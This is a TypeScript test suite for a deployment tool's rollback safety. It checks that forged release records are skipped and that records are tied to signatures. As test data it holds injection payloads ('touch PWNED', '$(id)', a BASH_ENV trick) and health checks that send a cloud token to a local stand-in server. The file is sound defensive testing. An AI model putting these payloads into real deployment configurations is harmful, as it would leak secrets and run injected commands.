import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Check } from '../../src/domain/check/check.js';
import type { ReleaseRecord, Settings } from '../../src/domain/rollout/release.js';
import { cimyr, type Ended } from '../built/cimyr.js';
import { type Folder, folder } from '../built/workspace.js';

const SECRET = 'cloud-secret-4711';
const CONFIGURATION = `
name: shop
environments:
  box:
    target: { kind: local, path: "\${AT}", artifact: dist, activate: 'env > env' }
    strategy: { kind: recreate }
    variables: { REGION: eu }
    hooks: { pre-rollback: ['echo "told $REGION" >> told'] }
`;
const timing = {
  intervalMs: 20,
  timeoutMs: 500,
  deadlineMs: 500,
  startPeriodMs: 0,
  successes: 1,
  failures: 1,
};
const common = { phase: 'switch', from: 'runner', timing } as const;

type Change = (settings: Settings, elsewhere: string) => Partial<Settings>;

const hook = (command: string) => ({
  command,
  from: 'runner' as const,
  timeoutMs: 5000,
  onFailure: 'warn' as const,
  idempotent: true,
});
const check =
  (one: Partial<Check>): Change =>
  () => ({ checks: [{ name: 'c', ...common, ...one } as Check] });
const asks =
  (path: string, more: object = {}): Change =>
  (_, elsewhere) => ({
    checks: [
      {
        ...common,
        kind: 'http',
        name: 'c',
        url: `http://${elsewhere}${path}`,
        method: 'GET',
        headers: {},
        statuses: [],
        redirects: 0,
        ...more,
      },
    ],
  });

/** Each is skipped, and named; all stand in one record, since what is done with one is the same. */
const FORGED_CHECKS: readonly Change[] = [
  check({ kind: 'command', command: 'touch PWNED' } as Partial<Check>),
  asks('/'),
  asks('/?t=${CLOUD_TOKEN}'),
  asks('/', { headers: { authorization: '${CLOUD_TOKEN}' } }),
  (_, elsewhere) => ({ checks: [{ ...common, kind: 'tcp', name: 'c', address: elsewhere }] }),
];
const hooksAndChecks: Change = (settings, elsewhere) => ({
  hooks: {
    ...settings.hooks,
    'pre-rollback': [hook('touch PWNED')],
    'post-rollback': [hook('touch PWNED; true')],
  },
  checks: FORGED_CHECKS.flatMap((change) => change(settings, elsewhere).checks ?? []).map((one, i) => ({
    ...one,
    name: `c${i}`,
  })),
});

const FORGERIES: readonly (readonly [string, Change])[] = [
  ['hooks and checks', hooksAndChecks],
  ['a variable with a secret', () => ({ variables: { LOOT: '${{ secrets.CLOUD_TOKEN }}' } })],
  [
    'a variable with a secret by another way',
    () => ({ variables: { LOOT: "${{ format('{0}', secrets['CLOUD_TOKEN']) }}" } }),
  ],
  [
    'what today’s hook would load',
    () => ({ variables: { BASH_ENV: '/dev/stdin', REGION: '$(touch PWNED)' } }),
  ],
];

// Two releases, of which each test has a copy that somebody has changed.
describe('what was forged on a host', () => {
  let files: Folder & Disposable;
  let server: Server;
  let elsewhere: string;
  const asked: string[] = [];
  beforeAll(async () => {
    files = folder({ 'cimyr.yml': CONFIGURATION, 'dist/a': 'x' });
    server = createServer((request, response) => {
      asked.push(`${request.url} ${request.headers.authorization ?? ''}`);
      response.end('ok');
    });
    server.on('connection', () => asked.push('connection'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    elsewhere = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    for (const release of ['r1', 'r2']) {
      files.write('dist/a', release);
      const args = ['deploy', 'box', '--release', release, '--var', 'CHANNEL=old'];
      const { code, stderr } = await run('srv', args);
      if (code !== 0) throw new Error(stderr);
    }
  });
  afterAll(() => {
    server?.close();
    files?.[Symbol.dispose]();
  });

  const run = (
    at: string,
    args: readonly string[],
    env: Readonly<Record<string, string>> = {},
  ): Promise<Ended> => cimyr(args, { cwd: files.path, env: { AT: at, CLOUD_TOKEN: SECRET, ...env } });

  function copy(name: string): string {
    const at = name.replace(/\W+/g, '-');
    cpSync(files.at('srv'), files.at(at), { recursive: true, verbatimSymlinks: true });
    return at;
  }

  function forge(at: string, change: Change): void {
    const path = files.at(at, '.cimyr', 'records', 'r1.json');
    const record: ReleaseRecord = JSON.parse(readFileSync(path, 'utf8'));
    const settings = { ...record.settings, ...change(record.settings, elsewhere) };
    writeFileSync(path, JSON.stringify({ ...record, settings }));
  }

  const foul = (at: string) => {
    const env = files.at(at, 'releases', 'r1', 'env');
    return {
      ran: existsSync(files.at('PWNED')),
      asked: [...asked],
      isTold: existsSync(env) && readFileSync(env, 'utf8').includes(`LOOT=${SECRET}`),
    };
  };
  const NOTHING = { ran: false, asked: [], isTold: false };

  it.each(FORGERIES)('does not act here by a rollback: %s', async (name, change) => {
    const at = copy(name);
    forge(at, change);
    const { code, stdout, stderr } = await run(at, ['rollback', 'box']);
    expect(foul(at)).toEqual(NOTHING);
    expect([0, 2]).toContain(code);
    // Either it is named, or it is refused by its name, or there is nothing that was skipped but a value.
    expect(stdout + stderr).toMatch(
      /! skipped the |needs the secret CLOUD_TOKEN for its variable LOOT|do not find/,
    );
    expect(stdout + stderr).not.toContain(SECRET);
    if (change === hooksAndChecks)
      for (const what of [
        'pre-rollback hook',
        'post-rollback hook',
        ...FORGED_CHECKS.map((_, i) => `health check 'c${i}'`),
      ])
        expect(stdout).toContain(`! skipped the ${what} `);
  });

  // Of each kind one: what is done with a record is the same.
  it.each(FORGERIES.filter(([name]) => /^hooks|a secret$/.test(name)))(
    'nor by a journal that tells of an interrupted rollback: %s',
    async (name, change) => {
      const at = copy(`journal ${name}`);
      forge(at, change);
      const line = {
        at: '2026-01-01T00:00:00.000Z',
        fence: 2,
        kind: 'started',
        intent: 'rollback',
        release: 'r1',
        previous: 'r2',
        strategy: 'immediate',
        by: 'Eve',
      };
      const journal = files.at(at, '.cimyr', 'journal.ndjson');
      writeFileSync(
        journal,
        `${readFileSync(journal, 'utf8')}${JSON.stringify({ ...line, at: new Date().toISOString() })}\n`,
      );
      const { stdout, stderr } = await run(at, ['deploy', 'box', '--release', 'r3']);
      expect(stdout + stderr).toMatch(/was interrupted|needs the secret/);
      expect(foul(at)).toEqual(NOTHING);
    },
  );

  it('is named for machines, and its plan has no step for it', async () => {
    const at = copy('json');
    forge(at, ({ hooks }) => ({ hooks: { ...hooks, 'pre-rollback': [hook('touch PWNED')] } }));
    const ends = [
      await run(at, ['rollback', 'box', '--dry-run', '--json']),
      await run(at, ['rollback', 'box', '--json']),
    ];
    for (const { code, stdout } of ends) {
      expect(code).toBe(0);
      const { skipped, plan } = JSON.parse(stdout);
      expect(skipped).toContainEqual({
        release: 'r1',
        what: 'hook',
        phase: 'pre-rollback',
        name: 'touch PWNED',
      });
      expect(JSON.stringify(plan)).not.toContain('hook');
    }
  });

  it('leaves a release that nobody has changed as it was: its hooks run, with today’s variables', async () => {
    const at = copy('plain');
    const { code, stdout } = await run(at, ['rollback', 'box']);
    expect([code, stdout]).toEqual([0, expect.stringContaining('✓ hook pre-rollback 1')]);
    expect(files.read('told')).toContain('told eu\n');
    expect(files.read(at, 'releases', 'r1', 'env')).toContain('CHANNEL=old\n');
  });

  it.each([
    ['a record that is damaged', 'echo "{}" > .cimyr/records/r1.json', ['rollback', 'box']],
    ['a ledger that is gone with all else', 'rm -r .cimyr', ['deploy', 'box', '--release', 'r3']],
    [
      'a lease of nobody',
      "printf 'fence=1\\nttl=9\\nat=1\\nholder=null\\n' > .cimyr/lease",
      ['status', 'box'],
    ],
  ])('%s is left to people: exit code 3, and nothing is touched', async (name, damage, args) => {
    const at = copy(name);
    execFileSync('sh', ['-c', damage], { cwd: files.at(at) });
    const { code, stdout, stderr } = await run(at, args);
    expect([code, stdout + stderr]).toEqual([3, expect.stringMatching(/\.cimyr\/[\w./]+ is (damaged|gone)/)]);
    expect(readdirSync(files.at(at, 'releases'))).toEqual(['r1', 'r2']);
  });

  it('a ledger that is gone is made anew where what serves is beyond doubt, and nothing is removed', async () => {
    const at = copy('a ledger that is gone');
    execFileSync('rm', [files.at(at, '.cimyr', 'ledger.json')]);
    const { code, stdout, stderr } = await run(at, ['deploy', 'box', '--release', 'r3']);
    expect([code, stdout + stderr]).toEqual([0, expect.stringContaining('ledger')]);
    expect(readdirSync(files.at(at, 'releases'))).toEqual(['r1', 'r2', 'r3']);
  });

  it('is told by a signature, with which the whole of a record counts', async () => {
    const at = copy('signed');
    const key = { CIMYR_RECORD_KEY: 'a key that no host has' };
    const hooks = CONFIGURATION.replace('pre-rollback: [', "pre-rollback: ['echo signed $CHANNEL >> told', ");
    files.write('then.yml', hooks);
    files.write('dist/a', 'r4');
    const args = ['deploy', 'box', '--config', 'then.yml', '--release', 'r4', '--var', 'CHANNEL=new'];
    expect((await run(at, args, key)).code).toBe(0);
    expect((await run(at, ['deploy', 'box', '--release', 'r5'])).code).toBe(0);
    const [changed, other, whole] = ['changed', 'other key', 'whole'].map((name) => {
      const to = `signed-${name.replace(' ', '-')}`;
      cpSync(files.at(at), files.at(to), { recursive: true, verbatimSymlinks: true });
      return to;
    }) as [string, string, string];
    const path = files.at(changed, '.cimyr', 'records', 'r4.json');
    writeFileSync(path, readFileSync(path, 'utf8').replace('echo signed', 'touch PWNED; echo signed'));
    for (const [to, own] of [
      [changed, key],
      [other, { CIMYR_RECORD_KEY: 'another' }],
    ] as const) {
      const { code, stdout } = await run(to, ['rollback', 'box'], own);
      expect([code, stdout]).toEqual([0, expect.stringContaining('! skipped the pre-rollback hook ')]);
      expect(foul(to)).toEqual(NOTHING);
    }
    expect((await run(whole, ['rollback', 'box'], key)).stdout).not.toContain('skipped');
    expect(files.read('told')).toContain('signed new\n');
    expect(files.read(whole, '.cimyr', 'records', 'r4.json')).not.toContain('no host has');
    expect(files.read(whole, 'releases', 'r4', 'env')).not.toContain('CIMYR_RECORD_KEY');
  });
});

const VALUES = [
  'fix: ${{ secrets.CLOUD_TOKEN }}',
  '${CLOUD_TOKEN}',
  '$CLOUD_TOKEN `id` $(id)',
  "${{ '${{' }} }} ${{",
  '${{ github.repository }}',
];

it('what --var gives is a value, whatever it looks like', async () => {
  const words = VALUES.map((_, i) => `"$MESSAGE${i}"`).join(' ');
  using files = folder({
    'cimyr.yml': CONFIGURATION.replace("'env > env'", `'printf "%s\\n" ${words} > messages'`),
    'dist/a': 'x',
  });
  const env = { AT: 'srv', CLOUD_TOKEN: SECRET };
  const given = VALUES.flatMap((value, i) => ['--var', `MESSAGE${i}=${value}`]);
  const { code, stderr } = await cimyr(['deploy', 'box', '--release', 'r1', ...given], {
    cwd: files.path,
    env,
  });
  expect([code, stderr]).toEqual([0, '']);
  expect(files.read('srv/current/messages').split('\n')).toEqual([...VALUES, '']);
});
